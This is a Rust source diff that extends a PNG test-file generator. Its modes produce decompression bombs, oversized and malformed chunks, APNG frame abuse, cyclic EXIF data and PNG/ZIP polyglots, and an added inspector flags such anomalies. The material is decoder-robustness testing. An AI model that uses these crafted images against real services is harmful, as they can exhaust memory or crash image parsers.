@@ -1,19 +1,195 @@
-use crate::{extract_u32, write_u32, HEIGHT, NEW_HEIGHT, NEW_WIDTH, WIDTH};
-use common::{Context, Result};
+use crate::{
+    args::{Args, Mode},
+    extract_u32,
+    fuzz::{self, Field, Structure},
+    inspect::{Report, MAX_PLAUSIBLE_COUNT},
+    metadata,
+    polyglot::{self, Format},
+    write_u32, zlib,
+};
+use common::{bail, Context, Result};
 use crc::{crc32, Hasher32};
 use image::{png::PNGEncoder, EncodableLayout, ImageBuffer, Pixel, Rgb};
 use std::fs;
 
-pub(crate) fn create_image(image: &ImageBuffer<Rgb<u8>, Vec<u8>>) -> Result<()> {
-    let mut image = create_png(image)?;
-    verify_image(&image, WIDTH, HEIGHT);
-    modify_width_and_height(&mut image, NEW_WIDTH, NEW_HEIGHT);
-    verify_image(&image, NEW_WIDTH, NEW_HEIGHT);
-    fs::write("output.png", image).context("Unable to write to image file")?;
+pub(crate) const MODES: &[Mode] = &[
+    Mode::Dimensions,
+    Mode::DecompressionBomb,
+    Mode::ZtxtBomb,
+    Mode::IccpBomb,
+    Mode::TextFlood,
+    Mode::ChunkLength,
+    Mode::CriticalChunk,
+    Mode::FrameCount,
+    Mode::FrameBounds,
+    Mode::ExifCyclicIfd,
+    Mode::ExifTagCount,
+    Mode::OversizedXmp,
+    Mode::ThumbnailDimensions,
+    Mode::Polyglot,
+    Mode::Fuzz,
+];
+
+pub(crate) const SIGNATURE: &[u8] = &[137, 80, 78, 71, 13, 10, 26, 10];
+const RGB: u8 = 2;
+const BYTES_PER_PIXEL: u64 = 3;
+// Keeps the compressed stream at about 64 MiB
+const MAX_INFLATED_SIZE: u64 = 1 << 36;
+const MAX_IDAT_SIZE: usize = 1 << 20;
+
+// Signature and IHDR chunk
+const IHDR_END: usize = 33;
+// Size of the decompressed zTXt, iCCP and iTXt data
+const BOMB_SIZE: u64 = 1 << 30;
+const TEXT_CHUNK_COUNT: usize = 10_000;
+const MAX_CHUNK_LENGTH: u32 = 0x7fff_ffff;
+// Uppercase first letter marks the chunk as critical
+const UNKNOWN_CRITICAL: &[u8; 4] = b"MEAN";
+const CRITICAL_CHUNKS: &[&[u8; 4]] = &[b"IHDR", b"PLTE", b"IDAT", b"IEND"];
+const MAX_DIMENSION: u32 = 0x7fff_ffff;
+// Matches of 258 bytes with 1 bit codes for the length and the distance
+const MAX_DEFLATE_RATIO: u64 = 1032;
+
+// Declared by acTL
+const HUGE_FRAME_COUNT: u32 = 10_000_000;
+const HUGE_PLAY_COUNT: u32 = 10_000_000;
+
+/// Chunk of a PNG file
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Chunk {
+    pub(crate) pos: usize,
+    pub(crate) chunk_type: [u8; 4],
+    pub(crate) length: usize,
+}
+
+impl Chunk {
+    pub(crate) fn data(self) -> usize {
+        self.pos + 8
+    }
+
+    fn has_valid_crc(self, image: &[u8]) -> bool {
+        let crc = extract_u32(image, self.data() + self.length);
+        crc == compute_checksum(image, self.pos + 4, self.length + 4)
+    }
+}
+
+/// Region of the canvas declared by a fcTL chunk
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Frame {
+    width: u32,
+    height: u32,
+    x_offset: u32,
+    y_offset: u32,
+}
+
+/// Animation declared by acTL
+#[derive(Debug, Clone, Copy)]
+struct Animation {
+    frames: u32,
+    plays: u32,
+    /// Frame following the default image
+    frame: Option<Frame>,
+}
+
+pub(crate) fn create_image(image: &ImageBuffer<Rgb<u8>, Vec<u8>>, args: &Args) -> Result<()> {
+    let (new_width, new_height) = args.new_dimensions_u32();
+    let image = match args.mode {
+        Mode::Dimensions => {
+            let mut image = create_png(image)?;
+            verify_image(&image, args.width.into(), args.height.into());
+            modify_width_and_height(&mut image, new_width, new_height);
+            verify_image(&image, new_width, new_height);
+            image
+        }
+        Mode::DecompressionBomb => {
+            let (image, inflated_size) = create_bomb(new_width, new_height)?;
+            verify_image(&image, new_width, new_height);
+            let deflated_size: usize = read_chunks(&image)?
+                .iter()
+                .filter(|chunk| &chunk.chunk_type == b"IDAT")
+                .map(|chunk| chunk.length)
+                .sum();
+            println!(
+                "IDAT data of {} bytes decompresses to {} bytes",
+                deflated_size, inflated_size
+            );
+            image
+        }
+        Mode::FrameCount | Mode::FrameBounds => {
+            let (width, height) = (args.width.into(), args.height.into());
+            let animation = if args.mode == Mode::FrameCount {
+                Animation {
+                    frames: HUGE_FRAME_COUNT,
+                    plays: HUGE_PLAY_COUNT,
+                    frame: None,
+                }
+            } else {
+                // starts where the canvas ends
+                let frame = Frame {
+                    width: new_width,
+                    height: new_height,
+                    x_offset: width,
+                    y_offset: height,
+                };
+                Animation {
+                    frames: 2,
+                    plays: 0,
+                    frame: Some(frame),
+                }
+            };
+            let image = create_png(image)?;
+            verify_image(&image, width, height);
+            let image = create_apng(&image, animation)?;
+            verify_image(&image, width, height);
+            verify_animation(&image, animation)?;
+            image
+        }
+        Mode::ExifCyclicIfd | Mode::ExifTagCount | Mode::ThumbnailDimensions => {
+            let (width, height) = (args.width.into(), args.height.into());
+            let exif = metadata::create_exif(image, args.mode)?;
+            let image = create_png(image)?;
+            verify_image(&image, width, height);
+            let mut chunk = Vec::new();
+            write_chunk(&mut chunk, b"eXIf", &exif);
+            let image = insert_chunks(&image, &chunk);
+            verify_image(&image, width, height);
+            verify_ancillary_chunks(&image, args.mode)?;
+            let exif = read_chunks(&image)?
+                .into_iter()
+                .find(|chunk| &chunk.chunk_type == b"eXIf")
+                .context("Unable to find eXIf chunk")?;
+            metadata::verify_exif(&image[exif.data()..exif.data() + exif.length], args.mode)?;
+            image
+        }
+        Mode::Polyglot => {
+            let (width, height) = (args.width.into(), args.height.into());
+            let image = create_png(image)?;
+            verify_image(&image, width, height);
+            let image = polyglot::append_zip(&image);
+            verify_image(&image, width, height);
+            polyglot::verify_formats(&image, &[Format::Png, Format::Zip])?;
+            image
+        }
+        Mode::Fuzz => {
+            let image = create_png(image)?;
+            verify_image(&image, args.width.into(), args.height.into());
+            return fuzz::write_corpus(&image, &structure(&image)?, args);
+        }
+        mode => {
+            let (width, height) = (args.width.into(), args.height.into());
+            let image = create_png(image)?;
+            verify_image(&image, width, height);
+            let image = insert_chunks(&image, &ancillary_chunks(mode)?);
+            verify_image(&image, width, height);
+            verify_ancillary_chunks(&image, mode)?;
+            image
+        }
+    };
+    fs::write(args.output_path()?, image).context("Unable to write to image file")?;
     Ok(())
 }
 
-fn create_png(image: &ImageBuffer<Rgb<u8>, Vec<u8>>) -> Result<Vec<u8>> {
+pub(crate) fn create_png(image: &ImageBuffer<Rgb<u8>, Vec<u8>>) -> Result<Vec<u8>> {
     let mut output: Vec<u8> = Vec::new();
     let encoder = PNGEncoder::new(&mut output);
     encoder
@@ -27,12 +203,8 @@ fn create_png(image: &ImageBuffer<Rgb<u8>, Vec<u8>>) -> Result<Vec<u8>> {
     Ok(output)
 }
 
-fn verify_image(image: &[u8], width: u16, height: u16) {
-    assert_eq!(
-        [137, 80, 78, 71, 13, 10, 26, 10],
-        &image[0..8],
-        "PNG Signature is not valid"
-    );
+pub(crate) fn verify_image(image: &[u8], width: u32, height: u32) {
+    assert_eq!(SIGNATURE, &image[0..8], "PNG Signature is not valid");
     let chunk_length = extract_u32(image, 8);
     let chunk_type = extract_u32(image, 12);
     let img_width = extract_u32(image, 16);
@@ -40,8 +212,8 @@ fn verify_image(image: &[u8], width: u16, height: u16) {
 
     assert_eq!(0x0000_000d, chunk_length, "Chunk size invalid");
     assert_eq!(0x4948_4452, chunk_type, "Chunk type invalid");
-    assert_eq!(width as u32, img_width, "Image width is invalid");
-    assert_eq!(height as u32, img_height, "Image height is invalid");
+    assert_eq!(width, img_width, "Image width is invalid");
+    assert_eq!(height, img_height, "Image height is invalid");
 
     let data_crc = compute_checksum(image, 12, chunk_length as usize + 4);
     let crc = extract_u32(image, 29);
@@ -54,11 +226,543 @@ fn compute_checksum(data: &[u8], start: usize, length: usize) -> u32 {
     digest.sum32()
 }
 
-fn modify_width_and_height(image: &mut [u8], new_width: u16, new_height: u16) {
-    write_u32(image, 16, new_width as u32);
-    write_u32(image, 20, new_height as u32);
+pub(crate) fn modify_width_and_height(image: &mut [u8], new_width: u32, new_height: u32) {
+    write_u32(image, 16, new_width);
+    write_u32(image, 20, new_height);
 
     let chunk_length = extract_u32(image, 8);
     let data_crc = compute_checksum(image, 12, chunk_length as usize + 4);
     write_u32(image, 29, data_crc);
 }
+
+pub(crate) fn write_chunk(output: &mut Vec<u8>, chunk_type: &[u8; 4], data: &[u8]) {
+    let start = output.len();
+    output.extend_from_slice(&(data.len() as u32).to_be_bytes());
+    output.extend_from_slice(chunk_type);
+    output.extend_from_slice(data);
+    let crc = compute_checksum(output, start + 4, data.len() + 4);
+    output.extend_from_slice(&crc.to_be_bytes());
+}
+
+/// Creates a PNG whose IDAT really contains `width` x `height` black pixels,
+/// so only a limit on the decompressed size protects the decoder
+fn create_bomb(width: u32, height: u32) -> Result<(Vec<u8>, u64)> {
+    // every scanline starts with the filter type None
+    let inflated_size = (width as u64 * BYTES_PER_PIXEL + 1) * height as u64;
+    if inflated_size > MAX_INFLATED_SIZE {
+        bail!(
+            "Decompressed size of {} bytes exceeds {} bytes",
+            inflated_size,
+            MAX_INFLATED_SIZE
+        );
+    }
+
+    let mut header = vec![0; 13];
+    write_u32(&mut header, 0, width);
+    write_u32(&mut header, 4, height);
+    header[8] = 8;
+    header[9] = RGB;
+
+    let mut output = SIGNATURE.to_vec();
+    write_chunk(&mut output, b"IHDR", &header);
+    for data in zlib::zeros(inflated_size).chunks(MAX_IDAT_SIZE) {
+        write_chunk(&mut output, b"IDAT", data);
+    }
+    write_chunk(&mut output, b"IEND", &[]);
+    Ok((output, inflated_size))
+}
+
+/// Reads all chunks and checks their CRC
+pub(crate) fn read_chunks(image: &[u8]) -> Result<Vec<Chunk>> {
+    let chunks = walk_chunks(image)?;
+    for chunk in &chunks {
+        assert!(chunk.has_valid_crc(image), "CRC checksum does not match");
+    }
+    Ok(chunks)
+}
+
+/// Reads all chunks up to IEND without checking their CRC, decoders ignore
+/// anything following it
+fn walk_chunks(image: &[u8]) -> Result<Vec<Chunk>> {
+    let mut chunks = Vec::new();
+    let mut pos = SIGNATURE.len();
+    while pos < image.len() {
+        if pos + 12 > image.len() {
+            bail!("Chunk header exceeds the file");
+        }
+        let length = extract_u32(image, pos) as usize;
+        if pos + 12 + length > image.len() {
+            bail!("Chunk data exceeds the file");
+        }
+        let mut chunk_type = [0; 4];
+        chunk_type.copy_from_slice(&image[pos + 4..pos + 8]);
+        chunks.push(Chunk {
+            pos,
+            chunk_type,
+            length,
+        });
+        pos += 12 + length;
+        if &chunk_type == b"IEND" {
+            break;
+        }
+    }
+    Ok(chunks)
+}
+
+/// Every chunk is a field, its length and CRC are fixed up
+fn structure(image: &[u8]) -> Result<Structure> {
+    let fields = read_chunks(image)?
+        .into_iter()
+        .map(|chunk| Field {
+            tag: u32::from_be_bytes(chunk.chunk_type),
+            data: image[chunk.data()..chunk.data() + chunk.length].to_vec(),
+        })
+        .collect();
+    Ok(Structure {
+        fields,
+        // IHDR
+        fixed: 1,
+        big_endian: true,
+        assemble: assemble_chunks,
+    })
+}
+
+fn assemble_chunks(fields: &[Field]) -> Result<Vec<u8>> {
+    let mut output = SIGNATURE.to_vec();
+    for field in fields {
+        write_chunk(&mut output, &field.tag.to_be_bytes(), &field.data);
+    }
+    Ok(output)
+}
+
+fn ancillary_chunks(mode: Mode) -> Result<Vec<u8>> {
+    let mut output = Vec::new();
+    match mode {
+        Mode::ZtxtBomb => {
+            // keyword, compression method 0
+            let mut data = b"Comment\0\0".to_vec();
+            data.extend(zlib::zeros(BOMB_SIZE));
+            write_chunk(&mut output, b"zTXt", &data);
+        }
+        Mode::IccpBomb => {
+            let mut data = b"ICC Profile\0\0".to_vec();
+            data.extend(zlib::zeros(BOMB_SIZE));
+            write_chunk(&mut output, b"iCCP", &data);
+        }
+        Mode::TextFlood => {
+            for index in 0..TEXT_CHUNK_COUNT {
+                let data = format!("Comment{}\0mean", index);
+                write_chunk(&mut output, b"tEXt", data.as_bytes());
+            }
+        }
+        Mode::ChunkLength => {
+            write_chunk(&mut output, b"tEXt", b"Comment\0mean");
+            write_u32(&mut output, 0, MAX_CHUNK_LENGTH);
+        }
+        Mode::CriticalChunk => write_chunk(&mut output, UNKNOWN_CRITICAL, b"mean"),
+        Mode::OversizedXmp => {
+            // keyword, compressed with method 0, no language and translated
+            // keyword
+            let mut data = metadata::XMP_KEYWORD.to_vec();
+            data.extend_from_slice(b"\0\x01\0\0\0");
+            data.extend(zlib::zeros(BOMB_SIZE));
+            write_chunk(&mut output, b"iTXt", &data);
+        }
+        _ => bail!("Mode does not add ancillary chunks"),
+    }
+    Ok(output)
+}
+
+/// Inserts the chunks directly after IHDR, as iCCP has to precede IDAT
+fn insert_chunks(image: &[u8], chunks: &[u8]) -> Vec<u8> {
+    let mut output = image[..IHDR_END].to_vec();
+    output.extend_from_slice(chunks);
+    output.extend_from_slice(&image[IHDR_END..]);
+    output
+}
+
+fn verify_ancillary_chunks(image: &[u8], mode: Mode) -> Result<()> {
+    let (chunk_type, count) = match mode {
+        Mode::ZtxtBomb => (b"zTXt", 1),
+        Mode::IccpBomb => (b"iCCP", 1),
+        Mode::TextFlood => (b"tEXt", TEXT_CHUNK_COUNT),
+        Mode::CriticalChunk => (UNKNOWN_CRITICAL, 1),
+        Mode::OversizedXmp => (b"iTXt", 1),
+        Mode::ExifCyclicIfd | Mode::ExifTagCount | Mode::ThumbnailDimensions => (b"eXIf", 1),
+        Mode::ChunkLength => {
+            // the chunk length breaks reading the remaining chunks
+            assert_eq!(
+                b"tEXt",
+                &image[IHDR_END + 4..IHDR_END + 8],
+                "Chunk type invalid"
+            );
+            let length = extract_u32(image, IHDR_END);
+            assert_eq!(MAX_CHUNK_LENGTH, length, "Chunk size invalid");
+            assert!(
+                IHDR_END + length as usize > image.len(),
+                "Chunk fits into the file"
+            );
+            return Ok(());
+        }
+        _ => bail!("Mode does not add ancillary chunks"),
+    };
+    let chunks = read_chunks(image)?;
+    let found = chunks
+        .iter()
+        .filter(|chunk| &chunk.chunk_type == chunk_type)
+        .count();
+    assert_eq!(count, found, "Chunk count is invalid");
+    Ok(())
+}
+
+fn frame_control(sequence: u32, frame: Frame) -> Vec<u8> {
+    let mut data = vec![0; 26];
+    write_u32(&mut data, 0, sequence);
+    write_u32(&mut data, 4, frame.width);
+    write_u32(&mut data, 8, frame.height);
+    write_u32(&mut data, 12, frame.x_offset);
+    write_u32(&mut data, 16, frame.y_offset);
+    // delay of 1/10 second, no dispose and blend operation
+    data[21] = 1;
+    data[23] = 10;
+    data
+}
+
+/// Turns the PNG into an APNG whose default image is its first frame. An
+/// additional frame reuses the image data.
+fn create_apng(image: &[u8], animation: Animation) -> Result<Vec<u8>> {
+    let chunks = read_chunks(image)?;
+    let idat: Vec<Chunk> = chunks
+        .iter()
+        .filter(|chunk| &chunk.chunk_type == b"IDAT")
+        .copied()
+        .collect();
+    let first_idat = idat.first().context("Unable to find IDAT chunk")?;
+    let iend = chunks
+        .iter()
+        .find(|chunk| &chunk.chunk_type == b"IEND")
+        .context("Unable to find IEND chunk")?;
+
+    let mut control = vec![0; 8];
+    write_u32(&mut control, 0, animation.frames);
+    write_u32(&mut control, 4, animation.plays);
+    let default_frame = Frame {
+        width: extract_u32(image, 16),
+        height: extract_u32(image, 20),
+        x_offset: 0,
+        y_offset: 0,
+    };
+
+    let mut output = image[..first_idat.pos].to_vec();
+    write_chunk(&mut output, b"acTL", &control);
+    write_chunk(&mut output, b"fcTL", &frame_control(0, default_frame));
+    output.extend_from_slice(&image[first_idat.pos..iend.pos]);
+    if let Some(frame) = animation.frame {
+        write_chunk(&mut output, b"fcTL", &frame_control(1, frame));
+        let mut data = 2_u32.to_be_bytes().to_vec();
+        for chunk in &idat {
+            data.extend_from_slice(&image[chunk.data()..chunk.data() + chunk.length]);
+        }
+        write_chunk(&mut output, b"fdAT", &data);
+    }
+    output.extend_from_slice(&image[iend.pos..]);
+    Ok(output)
+}
+
+fn verify_animation(image: &[u8], animation: Animation) -> Result<()> {
+    let chunks = read_chunks(image)?;
+    let control = chunks
+        .iter()
+        .find(|chunk| &chunk.chunk_type == b"acTL")
+        .context("Unable to find acTL chunk")?;
+    let frames = extract_u32(image, control.data());
+    let plays = extract_u32(image, control.data() + 4);
+    assert_eq!(animation.frames, frames, "Frame count is invalid");
+    assert_eq!(animation.plays, plays, "Play count is invalid");
+
+    let mut frames = Vec::new();
+    for (sequence, chunk) in chunks
+        .iter()
+        .filter(|chunk| &chunk.chunk_type == b"fcTL" || &chunk.chunk_type == b"fdAT")
+        .enumerate()
+    {
+        let pos = chunk.data();
+        assert_eq!(
+            sequence as u32,
+            extract_u32(image, pos),
+            "Sequence number is invalid"
+        );
+        if &chunk.chunk_type == b"fcTL" {
+            frames.push(Frame {
+                width: extract_u32(image, pos + 4),
+                height: extract_u32(image, pos + 8),
+                x_offset: extract_u32(image, pos + 12),
+                y_offset: extract_u32(image, pos + 16),
+            });
+        }
+    }
+    let default_frame = frames.first().context("Unable to find fcTL chunk")?;
+    assert_eq!(
+        extract_u32(image, 16),
+        default_frame.width,
+        "Frame width is invalid"
+    );
+    assert_eq!(
+        extract_u32(image, 20),
+        default_frame.height,
+        "Frame height is invalid"
+    );
+    assert_eq!(animation.frame, frames.get(1).copied(), "Frame is invalid");
+    Ok(())
+}
+
+/// Describes IHDR, the chunks and the animation
+pub(crate) fn inspect(image: &[u8], report: &mut Report) {
+    let mut dimensions = None;
+    let mut bits_per_pixel = None;
+    if image.len() < IHDR_END || &image[12..16] != b"IHDR" {
+        report.anomaly("IHDR is not the first chunk");
+    } else {
+        let (width, height) = (extract_u32(image, 16), extract_u32(image, 20));
+        let (bit_depth, color_type) = (image[24], image[25]);
+        report.field("Width", width);
+        report.field("Height", height);
+        report.field("Bit depth", bit_depth);
+        report.field("Color type", color_type);
+        report.field("Compression method", image[26]);
+        report.field("Filter method", image[27]);
+        report.field("Interlace method", image[28]);
+        report.claimed = Some((width.into(), height.into()));
+        dimensions = Some((width, height));
+        if width > MAX_DIMENSION || height > MAX_DIMENSION {
+            report.anomaly("Dimensions exceed 2^31 - 1");
+        }
+        match channels(color_type, bit_depth) {
+            Some(channels) => bits_per_pixel = Some(channels * bit_depth as u64),
+            None => report.anomaly(format!(
+                "Bit depth {} is invalid for color type {}",
+                bit_depth, color_type
+            )),
+        }
+        if image[26] != 0 || image[27] != 0 || image[28] > 1 {
+            report.anomaly("Compression, filter or interlace method is unknown");
+        }
+    }
+
+    let chunks = match walk_chunks(image) {
+        Ok(chunks) => chunks,
+        Err(error) => {
+            report.anomaly(format!("{:#}", error));
+            return;
+        }
+    };
+    for chunk in &chunks {
+        let name = String::from_utf8_lossy(&chunk.chunk_type);
+        report.part(name.clone(), chunk.pos, chunk.length + 12);
+        if !chunk.has_valid_crc(image) {
+            report.anomaly(format!("CRC of {} at {} does not match", name, chunk.pos));
+        }
+        // an uppercase first letter marks the chunk as critical
+        if chunk.chunk_type[0].is_ascii_uppercase() && !CRITICAL_CHUNKS.contains(&&chunk.chunk_type)
+        {
+            report.anomaly(format!("Unknown critical chunk {} at {}", name, chunk.pos));
+        }
+        if &chunk.chunk_type == b"eXIf" {
+            let exif = &image[chunk.data()..chunk.data() + chunk.length];
+            metadata::inspect_exif(exif, report);
+        }
+    }
+    if chunks.len() > MAX_PLAUSIBLE_COUNT {
+        report.anomaly(format!("File consists of {} chunks", chunks.len()));
+    }
+    match chunks.last() {
+        Some(iend) if &iend.chunk_type == b"IEND" => {
+            let end = iend.pos + 12 + iend.length;
+            if end < image.len() {
+                report.anomaly(format!("{} bytes follow IEND", image.len() - end));
+            }
+        }
+        _ => report.anomaly("IEND is missing"),
+    }
+
+    let compressed: usize = chunks
+        .iter()
+        .filter(|chunk| &chunk.chunk_type == b"IDAT")
+        .map(|chunk| chunk.length)
+        .sum();
+    report.field("IDAT size", compressed);
+    if compressed == 0 {
+        report.anomaly("IDAT is missing");
+    }
+    if let Some(bits_per_pixel) = bits_per_pixel {
+        report.plausible = Some(compressed as u64 * MAX_DEFLATE_RATIO * 8 / bits_per_pixel);
+    }
+    inspect_animation(image, &chunks, dimensions, report);
+}
+
+/// Number of samples per pixel, if the bit depth is allowed for the color
+/// type
+fn channels(color_type: u8, bit_depth: u8) -> Option<u64> {
+    match (color_type, bit_depth) {
+        (0, 1) | (0, 2) | (0, 4) | (0, 8) | (0, 16) => Some(1),
+        (3, 1) | (3, 2) | (3, 4) | (3, 8) => Some(1),
+        (4, 8) | (4, 16) => Some(2),
+        (RGB, 8) | (RGB, 16) => Some(3),
+        (6, 8) | (6, 16) => Some(4),
+        _ => None,
+    }
+}
+
+/// Compares acTL to the fcTL chunks and checks their bounds
+fn inspect_animation(
+    image: &[u8],
+    chunks: &[Chunk],
+    dimensions: Option<(u32, u32)>,
+    report: &mut Report,
+) {
+    let control = match chunks
+        .iter()
+        .find(|chunk| &chunk.chunk_type == b"acTL" && chunk.length >= 8)
+    {
+        Some(control) => control,
+        None => return,
+    };
+    let frames = extract_u32(image, control.data());
+    report.field("Frames", frames);
+    report.field("Plays", extract_u32(image, control.data() + 4));
+    let frame_controls: Vec<&Chunk> = chunks
+        .iter()
+        .filter(|chunk| &chunk.chunk_type == b"fcTL" && chunk.length >= 26)
+        .collect();
+    if frames as usize != frame_controls.len() {
+        report.anomaly(format!(
+            "acTL declares {} frames, but {} fcTL chunks follow",
+            frames,
+            frame_controls.len()
+        ));
+    }
+    let (width, height) = match dimensions {
+        Some((width, height)) => (width as u64, height as u64),
+        None => return,
+    };
+    for chunk in frame_controls {
+        let pos = chunk.data();
+        let frame = Frame {
+            width: extract_u32(image, pos + 4),
+            height: extract_u32(image, pos + 8),
+            x_offset: extract_u32(image, pos + 12),
+            y_offset: extract_u32(image, pos + 16),
+        };
+        if frame.x_offset as u64 + frame.width as u64 > width
+            || frame.y_offset as u64 + frame.height as u64 > height
+        {
+            report.anomaly(format!(
+                "Frame of {}x{} at {},{} exceeds the image",
+                frame.width, frame.height, frame.x_offset, frame.y_offset
+            ));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{create_png, inspect, structure, walk_chunks, write_u32, SIGNATURE};
+    use crate::{image::generate_image, inspect::Report};
+
+    fn create() -> Vec<u8> {
+        create_png(&generate_image(8, 8, 1)).expect("Unable to create PNG")
+    }
+
+    fn anomalies(image: &[u8]) -> Vec<String> {
+        let mut report = Report::default();
+        inspect(image, &mut report);
+        report.anomalies().to_vec()
+    }
+
+    #[test]
+    fn walk_created_png() {
+        let image = create();
+        let chunks = walk_chunks(&image).expect("Unable to walk PNG");
+        let first = chunks.first().expect("IHDR is missing");
+        let last = chunks.last().expect("IEND is missing");
+        assert_eq!(
+            (SIGNATURE.len(), *b"IHDR", 13),
+            (first.pos, first.chunk_type, first.length)
+        );
+        assert_eq!(*b"IEND", last.chunk_type, "IEND is not the last chunk");
+        assert_eq!(
+            image.len(),
+            last.pos + 12 + last.length,
+            "IEND is not at the end"
+        );
+        for pair in chunks.windows(2) {
+            assert_eq!(
+                pair[0].pos + 12 + pair[0].length,
+                pair[1].pos,
+                "Chunks are not contiguous"
+            );
+        }
+        assert!(
+            chunks.iter().all(|chunk| chunk.has_valid_crc(&image)),
+            "CRC is invalid"
+        );
+        assert!(anomalies(&image).is_empty(), "Valid PNG has anomalies");
+    }
+
+    #[test]
+    fn structure_reassembles_png() {
+        let image = create();
+        let structure = structure(&image).expect("Unable to read structure");
+        let assembled = (structure.assemble)(&structure.fields).expect("Unable to assemble PNG");
+        assert_eq!(image, assembled, "Chunks do not reproduce the PNG");
+    }
+
+    #[test]
+    fn inspect_reports_truncated_png() {
+        let image = create();
+        for length in 0..image.len() {
+            assert!(
+                !anomalies(&image[..length]).is_empty(),
+                "PNG truncated to {} bytes has no anomaly",
+                length
+            );
+        }
+    }
+
+    #[test]
+    fn inspect_reports_mutated_png() {
+        let image = create();
+        let chunks = walk_chunks(&image).expect("Unable to walk PNG");
+        let idat = chunks
+            .iter()
+            .find(|chunk| &chunk.chunk_type == b"IDAT")
+            .expect("IDAT is missing");
+
+        let mut corrupted = image.clone();
+        corrupted[idat.data()] ^= 0xff;
+        assert!(
+            anomalies(&corrupted)
+                .iter()
+                .any(|anomaly| anomaly.starts_with("CRC of IDAT")),
+            "Corrupted IDAT is not reported"
+        );
+
+        let mut oversized = image.clone();
+        write_u32(&mut oversized, idat.pos, u32::max_value());
+        assert!(
+            anomalies(&oversized)
+                .iter()
+                .any(|anomaly| anomaly.contains("exceeds the file")),
+            "Oversized IDAT is not reported"
+        );
+
+        let mut trailing = image;
+        trailing.extend_from_slice(b"trailing");
+        assert!(
+            anomalies(&trailing)
+                .iter()
+                .any(|anomaly| anomaly.ends_with("follow IEND")),
+            "Data after IEND is not reported"
+        );
+    }
+}